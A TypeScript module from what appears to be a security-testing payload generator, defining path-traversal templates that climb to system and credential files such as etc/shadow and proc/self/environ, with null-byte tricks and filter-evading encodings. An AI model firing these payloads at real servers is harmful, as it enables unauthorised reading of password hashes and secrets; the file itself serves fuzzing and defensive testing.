import type { Random } from '../../random.js';
import type { PayloadFamily } from '../payload-family.js';

const FILES = [
  'etc/passwd',
  'etc/shadow',
  'etc/hosts',
  'proc/self/environ',
  'windows/win.ini',
  'boot.ini',
  'var/log/auth.log',
];

const depth = (r: Random) => r.int(2, 8);

/** Path traversal: climbing out of the web root to system files, with the separators filters forget. */
export const PATH_TRAVERSAL: PayloadFamily = {
  name: 'path-traversal',
  summary: 'path traversal: ../ climbs to system files, backslashes, doubled dots, null bytes',
  templates: [
    (r) => `${'../'.repeat(depth(r))}${r.pick(FILES)}`,
    (r) => `${'..\\'.repeat(depth(r))}${r.pick(FILES).replace(/\//g, '\\')}`,
    (r) => `${'....//'.repeat(depth(r))}${r.pick(FILES)}`,
    (r) => `/${r.pick(FILES)}`,
    (r) => `file:///${r.pick(FILES)}`,
    (r) => `${'../'.repeat(depth(r))}${r.pick(FILES)}%00.${r.pick(['png', 'jpg', 'html'])}`,
  ],
  points: ['query', 'url-param', 'path'],
  encodings: ['plain', 'url', 'double-url', 'dot-encode', 'overlong'],
};
